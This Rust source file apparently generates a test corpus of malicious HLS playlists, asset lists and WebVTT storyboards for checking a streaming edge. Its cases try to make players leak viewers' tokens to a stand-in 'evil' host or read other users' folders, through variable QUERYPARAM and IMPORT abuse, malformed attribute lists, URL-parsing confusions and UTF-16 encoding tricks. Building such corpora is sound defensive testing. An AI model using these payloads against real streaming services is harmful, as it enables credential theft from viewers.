//! Attacks by an uploader, written by hand: files in his folder that make a player send the
//! viewer's credentials to another host.

/// Hosts and folders of an attack.
#[derive(Debug, Clone, Copy)]
pub struct AttackSite<'a> {
    /// The edge's own origin.
    pub origin: &'a str,
    /// The foreign host's origin.
    pub evil: &'a str,
    /// The uploader's folder.
    pub own: &'a str,
    /// A folder that the viewer may read, and the uploader may not.
    pub others: &'a str,
}

/// A Multivariant Playlist and the Media Playlist `s.m3u8` beside it.
#[derive(Debug)]
pub struct Attack {
    pub name: String,
    pub multivariant: Vec<u8>,
    pub media: Vec<u8>,
}

impl Attack {
    fn new(name: impl Into<String>, multivariant: &str, media: &str) -> Self {
        Self {
            name: name.into(),
            multivariant: multivariant.into(),
            media: media.into(),
        }
    }
}

/// A Media Playlist with lines before its only segment.
pub fn media(lines: &str) -> String {
    format!(
        "#EXTM3U\n#EXT-X-TARGETDURATION:4\n#EXT-X-PROGRAM-DATE-TIME:2026-01-01T00:00:00Z\n\
         {lines}\n#EXTINF:4,\nx.m4s\n#EXT-X-ENDLIST\n"
    )
}

/// A Multivariant Playlist with lines before its only Variant Stream.
pub fn multivariant(lines: &str) -> String {
    format!(
        "#EXTM3U\n{lines}\n\
         #EXT-X-STREAM-INF:BANDWIDTH=1000,RESOLUTION=640x360,CODECS=\"avc1.64001e\"\ns.m3u8\n"
    )
}

/// A Multivariant Playlist with lines, and a Variant Stream before the usual one.
fn with_variant(lines: &str, uri: &str) -> String {
    multivariant(&format!(
        "{lines}\n#EXT-X-STREAM-INF:BANDWIDTH=900,CODECS=\"avc1.64001e\"\n{uri}"
    ))
}

/// All attacks.
pub fn attacks(site: &AttackSite<'_>) -> Vec<Attack> {
    [
        query_parameters(site),
        variables(site),
        attribute_lists(site),
        uris(site),
        encodings(site),
    ]
    .into_iter()
    .flatten()
    .collect()
}

/// The viewer's own link or pass as a variable.
pub fn query_parameters(site: &AttackSite<'_>) -> Vec<Attack> {
    let mut attacks = Vec::new();
    let plain = multivariant("");
    for parameter in ["token", "p", "x", "h", "Token", "%74oken"] {
        let define = format!("#EXT-X-DEFINE:QUERYPARAM=\"{parameter}\"");
        let uri = format!("{}/?t={{${parameter}}}", site.evil);
        attacks.push(Attack::new(
            format!("QUERYPARAM of {parameter} in a Variant Stream"),
            &with_variant(&define, &uri),
            &media(""),
        ));
        attacks.push(Attack::new(
            format!("QUERYPARAM of {parameter} in a segment"),
            &plain,
            &media(&format!("{define}\n#EXTINF:4,\n{uri}")),
        ));
        attacks.push(Attack::new(
            format!("QUERYPARAM of {parameter}, imported"),
            &multivariant(&define),
            &media(&format!(
                "#EXT-X-DEFINE:IMPORT=\"{parameter}\"\n#EXTINF:4,\n{uri}"
            )),
        ));
        attacks.push(Attack::new(
            format!("QUERYPARAM of {parameter} in attributes"),
            &multivariant(&format!(
                "{define}\n\
                 #EXT-X-SESSION-DATA:DATA-ID=\"com.apple.hls.chapters\",URI=\"{uri}\"\n\
                 #EXT-X-MEDIA:TYPE=AUDIO,GROUP-ID=\"a\",NAME=\"n\",URI=\"{uri}\"\n\
                 #EXT-X-CONTENT-STEERING:SERVER-URI=\"{uri}\",PATHWAY-ID=\".\""
            )),
            &media(&format!(
                "{define}\n#EXT-X-KEY:METHOD=AES-128,URI=\"{uri}\""
            )),
        ));
    }
    attacks
}

/// Variables that the edge and players may understand in different ways.
pub fn variables(site: &AttackSite<'_>) -> Vec<Attack> {
    let AttackSite {
        origin,
        evil,
        others,
        ..
    } = site;
    let essay = format!("{others}/essay.mp4");
    let host = evil.split_once("//").map_or(*evil, |(_, host)| host);
    let values = [
        *evil,
        "https:",
        "https:/",
        &format!("//{host}"),
        others,
        "/",
        "",
        "?",
        "#",
        "?a=",
        "a?b",
        &format!("\\\\{host}"),
        "{$i}",
        "{$h}",
        "%7B$i%7D",
        "$&",
        "$'",
        "$`",
        "x y",
        &format!("\t//{host}"),
        " ",
        "\u{e9}",
        origin,
    ]
    .map(str::to_owned);
    let plain = multivariant("");
    let mut attacks = Vec::new();
    for value in values {
        for (name, define) in definitions(&value, evil) {
            for uri in [
                format!("{{$h}}{essay}"),
                format!("{{$h}}{{$h}}{essay}"),
                format!("%7B$h%7D{essay}"),
                format!("%7b$h%7d{essay}"),
                format!("{essay}?{{$h}}"),
                format!("{essay}#{{$h}}"),
                format!("{essay}{{$h}}"),
                format!("{others}/{{$h}}/essay.mp4"),
                format!("{{$ h}}{essay}"),
                format!("{{$h{essay}"),
                format!("{{$undefined}}{essay}"),
            ] {
                attacks.push(Attack::new(
                    format!("{name} {value:?} in {uri}"),
                    &plain,
                    &media(&format!(
                        "{define}\n#EXTINF:4,\n{uri}\n#EXT-X-MAP:URI=\"{uri}\""
                    )),
                ));
            }
            attacks.push(Attack::new(
                format!("{name} {value:?} in a Variant Stream"),
                &with_variant(&define, &format!("{{$h}}{others}/master.m3u8")),
                &media(""),
            ));
            attacks.push(Attack::new(
                format!("{name} {value:?} for an import"),
                &multivariant(&define),
                &media(&format!(
                    "#EXT-X-DEFINE:NAME=\"h\",VALUE=\"\",IMPORT=\"h\"\n#EXTINF:4,\n{{$h}}{essay}"
                )),
            ));
        }
    }
    attacks
}

/// Ways to define the variable `h`, by name.
fn definitions(value: &str, evil: &str) -> Vec<(&'static str, String)> {
    let of = |list: String| format!("#EXT-X-DEFINE:{list}");
    let usual = of(format!("NAME=\"h\",VALUE=\"{value}\""));
    vec![
        ("VALUE", usual.clone()),
        ("VALUE without quotes", of(format!("NAME=h,VALUE={value}"))),
        (
            "VALUE twice",
            of(format!("NAME=\"h\",VALUE=\"\",VALUE=\"{value}\"")),
        ),
        (
            "VALUE twice, the other way round",
            of(format!("NAME=\"h\",VALUE=\"{value}\",VALUE=\"\"")),
        ),
        (
            "NAME twice",
            of(format!("NAME=\"g\",NAME=\"h\",VALUE=\"{value}\"")),
        ),
        (
            "defined twice",
            format!("#EXT-X-DEFINE:NAME=\"h\",VALUE=\"\"\n{usual}"),
        ),
        (
            "VALUE and QUERYPARAM",
            of(format!("NAME=\"h\",VALUE=\"{value}\",QUERYPARAM=\"h\"")),
        ),
        (
            "VALUE and IMPORT",
            of(format!("NAME=\"h\",VALUE=\"{value}\",IMPORT=\"h\"")),
        ),
        (
            "in a comment first",
            format!("# #EXT-X-DEFINE:NAME=\"h\",VALUE=\"{evil}\"\n{usual}"),
        ),
        (
            "text behind a quote",
            of(format!("NAME=\"h\",VALUE=\"{value}\"x,VALUE=\"{evil}\"")),
        ),
        (
            "a space before the name",
            of(format!(" NAME=\"h\", VALUE=\"{value}\"")),
        ),
        (
            "names in small letters",
            of(format!(
                "name=\"h\",value=\"{evil}\",NAME=\"h\",VALUE=\"{value}\""
            )),
        ),
        (
            "by another variable",
            format!("#EXT-X-DEFINE:NAME=\"i\",VALUE=\"{evil}\"\n{usual}"),
        ),
    ]
}

/// Attribute lists that the edge and players may divide in different ways.
pub fn attribute_lists(site: &AttackSite<'_>) -> Vec<Attack> {
    let AttackSite { evil, others, .. } = site;
    let essay = format!("{others}/essay.mp4");
    let lists = [
        format!("URI=\"{evil}/?a=\"x,URI={essay},z=\""),
        format!("URI=\"{evil}/?a=\",URI=\"{essay}\""),
        format!("URI=\"{essay}\",URI=\"{evil}/?a=\""),
        format!("URI=\"{evil}/?a=\" ,URI=\"{essay}\""),
        format!("URI=\"{evil}/?a=\"URI=\"{essay}\""),
        format!("URI=\"{evil}/?a=\" URI=\"{essay}\""),
        format!("URI={evil}/?a=\"b,URI=\"{essay}\""),
        format!("URI={evil}/?a=URI=\"{essay}\""),
        format!("URI=\"{evil}/?a={essay}"),
        format!("X=\"{evil}/?a=,URI={essay}"),
        format!("X=\"a\"b\"c,URI=\"{essay}\""),
        format!("X=\",URI=\"{evil}/?a=\",URI=\"{essay}\""),
        format!("X=a\"b,URI=\"{essay}\",Y=\"c"),
        format!("=\"{evil}/?\",URI=\"{essay}\""),
        format!(",URI=\"{essay}\""),
        format!("x,URI=\"{essay}\""),
        format!(" URI = \"{essay}\""),
        format!("\tURI\t=\t\"{essay}\""),
        format!("uri=\"{evil}/\",URI=\"{essay}\""),
        format!("Uri=\"{evil}/\",URI=\"{essay}\""),
        format!("URI='{evil}/?',URI=\"{essay}\""),
        format!("URI=\u{201c}{evil}/?\u{201d},URI=\"{essay}\""),
        format!("URI\u{a0}=\"{evil}/?\",URI=\"{essay}\""),
        format!("\u{a0}URI=\"{evil}/?\",URI=\"{essay}\""),
        format!("URI=\"{evil}/?a\0\",URI=\"{essay}\""),
        format!("URI\0=\"{evil}/?\",URI=\"{essay}\""),
        format!("X=\"#EXT-X-MEDIA:TYPE=AUDIO,GROUP-ID=g,URI={evil}/?a=\",URI=\"{essay}\""),
        format!("X=\"#EXT-X-MEDIA:TYPE=AUDIO,GROUP-ID=g,URI=\",URI=\"{essay}\""),
    ];
    let plain = multivariant("");
    let mut attacks = Vec::new();
    for list in &lists {
        for tag in [
            "MAP:",
            "KEY:METHOD=AES-128,",
            "PART:DURATION=1,",
            "PRELOAD-HINT:TYPE=MAP,",
            "PRELOAD-HINT:TYPE=PART,",
            "RENDITION-REPORT:",
        ] {
            let line = format!("#EXT-X-{tag}{list}");
            attacks.push(Attack::new(&line, &plain, &media(&line)));
        }
        for tag in [
            "MEDIA:TYPE=AUDIO,GROUP-ID=\"a\",NAME=\"n\",",
            "SESSION-DATA:DATA-ID=\"com.apple.hls.chapters\",",
            "SESSION-KEY:METHOD=AES-128,",
            "I-FRAME-STREAM-INF:BANDWIDTH=1,",
            "IMAGE-STREAM-INF:BANDWIDTH=1,",
            "STREAM-INF:BANDWIDTH=1,",
        ] {
            let line = format!("#EXT-X-{tag}{list}");
            attacks.push(Attack::new(&line, &multivariant(&line), &media("")));
        }
        for name in ["X-ASSET-URI", "X-ASSET-LIST"] {
            let line = format!(
                "#EXT-X-DATERANGE:ID=\"1\",CLASS=\"com.apple.hls.interstitial\",\
                 START-DATE=\"2026-01-01T00:00:00Z\",{}",
                list.replace("URI", name)
            );
            attacks.push(Attack::new(&line, &plain, &media(&line)));
        }
        let line = format!(
            "#EXT-X-CONTENT-STEERING:PATHWAY-ID=\".\",{}",
            list.replace("URI", "SERVER-URI")
        );
        attacks.push(Attack::new(&line, &multivariant(&line), &media("")));
    }
    attacks
}

/// Lines that the edge and players may end in different places, and URLs that they may read in different ways.
pub fn uris(site: &AttackSite<'_>) -> Vec<Attack> {
    let AttackSite {
        origin,
        evil,
        own,
        others,
    } = site;
    let essay = format!("{others}/essay.mp4");
    let (scheme, host) = evil.split_once("://").unwrap_or(("https", evil));
    let (_, ours) = origin.split_once("://").unwrap_or(("", origin));
    let mut uris = Vec::new();
    for end in [
        "\r", "\u{b}", "\u{c}", "\u{85}", "\u{2028}", "\u{2029}", "\0", "\t", " ", "\u{a0}",
        "\u{feff}",
    ] {
        for behind in ["", "?", "?a=", "#"] {
            uris.push(format!("{essay}{behind}{end}{evil}/?"));
            uris.push(format!("{evil}/?{behind}{end}{essay}"));
        }
        uris.push(format!("{end}{evil}{essay}"));
        uris.push(format!("/{end}/{host}{essay}"));
        uris.push(format!("{end}/{host}{essay}"));
        uris.push(format!("ht{end}tp://{host}{essay}"));
    }
    uris.extend([
        format!("\\\\{host}{essay}"),
        format!("/\\{host}{essay}"),
        format!("//{host}{essay}"),
        format!("///{host}{essay}"),
        format!("{scheme}:/{host}{essay}"),
        format!("{scheme}:{host}{essay}"),
        format!("{scheme}:///{host}{essay}"),
        format!("{scheme}:\\\\{host}{essay}"),
        format!(".//{host}{essay}"),
        format!("..//{host}{essay}"),
        format!("x/..//{host}{essay}"),
        format!("{origin}@{host}{essay}"),
        format!("{origin}:1@{host}{essay}"),
        format!("{evil}\\@{ours}{essay}"),
        format!("{evil}#@{ours}{essay}"),
        format!("{evil}?@{ours}{essay}"),
        format!("{origin}0{essay}"),
        format!("{origin}:444{essay}"),
        format!("{origin}:{essay}"),
        format!("{origin}.{host}{essay}"),
        format!("{origin}.{essay}"),
        format!("{}{essay}", origin.replace('.', "\u{3002}")),
        format!("{}{essay}", origin.replace('.', "\u{ad}.")),
        format!("{}{essay}", origin.replace('.', "%2e")),
        format!("{origin}%2f@{host}{essay}"),
        format!("{}{essay}", origin.to_ascii_uppercase()),
        format!("http://{ours}{essay}"),
        "%2e%2e/u2/essay.mp4".to_owned(),
        ".%2e/u2/essay.mp4".to_owned(),
        "..%2fu2/essay.mp4".to_owned(),
        "..%5cu2/essay.mp4".to_owned(),
        "..\\u2\\essay.mp4".to_owned(),
        "..;/u2/essay.mp4".to_owned(),
        format!("%2f%2f{host}{essay}"),
        "data:application/vnd.apple.mpegurl,%23EXTM3U".to_owned(),
        format!("blob:{evil}/1"),
        format!("skd://{host}{essay}"),
        "urn:uuid:1".to_owned(),
        "?p=x&p=y".to_owned(),
        format!("{essay}?p=x"),
        format!("{essay}?%70=x"),
        format!("{essay}?a=1&a=2#f?p=x"),
        format!("{essay}?\""),
        format!("{essay}?a=,URI=\"{evil}/"),
        format!("{own}/x.m4s"),
    ]);
    let plain = multivariant("");
    let mut attacks = Vec::new();
    // hls.js looks for a missing duration at the start of the next line.
    for blank in ["", " ", "\t", "\u{a0}", "\u{feff}"] {
        for start in ["1", "12.5", ".5", ",", "1,"] {
            for uri in ["x.m4s", &format!("{evil}/a.ts"), &format!("//{host}/a.ts")] {
                attacks.push(Attack::new(
                    format!("no duration but {blank:?}, then {start}{uri}"),
                    &plain,
                    &media(&format!("#EXTINF:{blank}\n{start}{uri}")),
                ));
            }
        }
    }
    for uri in &uris {
        attacks.push(Attack::new(
            format!("the line {uri:?}"),
            &plain,
            &media(&format!("#EXTINF:4,\n{uri}")),
        ));
        for tag in ["MAP:", "KEY:METHOD=AES-128,"] {
            attacks.push(Attack::new(
                format!("{tag} {uri:?}"),
                &plain,
                &media(&format!("#EXT-X-{tag}URI=\"{uri}\"")),
            ));
        }
        let rendition = format!("#EXT-X-MEDIA:TYPE=AUDIO,GROUP-ID=\"a\",NAME=\"n\",URI=\"{uri}\"");
        attacks.push(Attack::new(
            format!("MEDIA {uri:?}"),
            &multivariant(&rendition),
            &media(""),
        ));
        attacks.push(Attack::new(
            format!("a Variant Stream {uri:?}"),
            &with_variant("", uri),
            &media(""),
        ));
    }
    attacks
}

/// Bytes that players read in another encoding than the edge does.
pub fn encodings(site: &AttackSite<'_>) -> Vec<Attack> {
    let mut attacks = Vec::new();
    for (name, mark, order) in [
        (
            "UTF-16LE",
            [0xFF, 0xFE],
            u16::to_le_bytes as fn(u16) -> [u8; 2],
        ),
        ("UTF-16BE", [0xFE, 0xFF], u16::to_be_bytes),
    ] {
        let encode = |text: &str| text.encode_utf16().flat_map(order).collect::<Vec<u8>>();
        for uri in ["essay.mp4", "essay2.mp4", "a.m3u8"] {
            // One of the two fillers puts the line at an even offset.
            for filler in ["\n", "\n\n"] {
                let head = format!(
                    "#EXTM3U\n#EXT-X-TARGETDURATION:4\n#EXTINF:4,\n{}/?",
                    site.evil
                );
                let line = format!("{filler}{}/{uri}\n", site.others);
                let media = [&mark[..], &encode(&head), line.as_bytes(), &encode("\n")].concat();
                attacks.push(Attack {
                    name: format!("{name} around {uri}"),
                    multivariant: multivariant("").into_bytes(),
                    media,
                });
            }
        }
    }
    attacks
}

/// Asset lists (RFC 8216bis appendix D), by name.
pub fn asset_lists(site: &AttackSite<'_>) -> Vec<(String, Vec<u8>)> {
    let AttackSite { evil, others, .. } = site;
    let escaped = evil.replace('/', "\\/");
    let (_, host) = evil.split_once("//").unwrap_or(("", evil));
    [
        format!(r#""{others}/master.m3u8""#),
        format!(r#""{escaped}{others}/master.m3u8""#),
        format!(r#""\u0068ttps://{host}/?a={others}/master.m3u8""#),
        format!(r#""{others}/master.m3u8?\r{evil}/""#),
        format!(r#""\t//{host}{others}/master.m3u8""#),
        format!(r#""\\\\{host}{others}/master.m3u8""#),
        format!(r#""\ud800{others}/master.m3u8""#),
        format!(r#""{others}/master.m3u8","URI":"{evil}/?a=""#),
        format!(r#""{evil}/?a=","URI":"{others}/master.m3u8""#),
        format!(r#""{{$h}}{others}/master.m3u8""#),
    ]
    .into_iter()
    .map(|uri| {
        let body = format!("{{\"ASSETS\":[{{\"URI\":{uri},\"DURATION\":4}}]}}");
        (uri, body.into_bytes())
    })
    .collect()
}

/// Storyboards, by name.
pub fn storyboards(site: &AttackSite<'_>) -> Vec<(String, Vec<u8>)> {
    let AttackSite { evil, others, .. } = site;
    let (_, host) = evil.split_once("//").unwrap_or(("", evil));
    [
        format!("{others}/a.jpg"),
        format!("{others}/a.jpg?\r{evil}/?"),
        format!("{evil}/?\r{others}/a.jpg"),
        format!("{others}/a.jpg?\u{2028}{evil}/?"),
        format!("{others}/a.jpg?\0{evil}/?"),
        format!("{others}/a.jpg?<b>"),
        format!("//{host}{others}/a.jpg"),
        format!("\\\\{host}{others}/a.jpg"),
        format!("{evil}/?a={others}/a.jpg"),
        format!("{others}/a.mp4"),
        format!("{others}/essay.mp4#.jpg"),
        format!("{others}/essay.mp4?.jpg"),
    ]
    .into_iter()
    .map(|text| {
        let board = format!("WEBVTT\n\n00:00.000 --> 00:02.000\n{text}\n");
        (text, board.into_bytes())
    })
    .collect()
}
